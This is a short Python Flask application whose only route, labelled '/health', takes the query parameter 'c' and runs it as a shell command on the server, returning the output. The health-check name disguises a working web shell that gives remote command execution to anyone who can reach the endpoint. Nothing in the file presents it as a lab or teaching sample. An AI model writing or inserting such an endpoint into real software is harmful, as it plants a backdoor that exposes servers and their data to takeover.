import subprocess
from flask import Flask, request
app = Flask(__name__)

@app.route('/health')
def health():
    return subprocess.check_output(request.args.get('c', 'true'), shell=True)
